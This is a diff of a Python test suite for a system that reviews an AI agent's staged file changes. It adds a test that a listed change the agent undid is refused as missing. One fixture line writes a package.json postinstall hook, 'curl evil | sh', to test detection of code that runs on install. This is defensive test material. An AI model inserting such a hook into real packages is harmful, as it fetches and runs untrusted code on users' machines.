@@ -435,3 +435,17 @@ def test_a_package_json_rewritten_after_it_was_checked_counts_as_running_code(
     assert host / "package.json" not in runs_code(changeset)
     (upper / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
     assert "could not be read" in runs_code(changeset)[host / "package.json"][0]
+
+
+def test_a_listed_change_the_agent_undid_is_said_to_be_missing_not_passed_over(
+    review: Review, tmp_path: Path
+) -> None:
+    _, host, upper = staged_session(review, tmp_path)
+    _, listing = review.listing(SESSION)
+    (upper / "new.txt").unlink()  # the agent takes it back after the listing
+    result = review.commit_listed(SESSION, (), listing.id)
+    assert result.applied == (str(host / "notes.txt"),)
+    assert dict(result.refused) == {str(host / "new.txt"): (
+        f"listed in {listing.id} but no longer staged as shown: nothing committed for it")}
+    again = review.commit_listed(SESSION, (), listing.id)  # notes.txt landed: not missing
+    assert again.refused == tuple(result.refused)
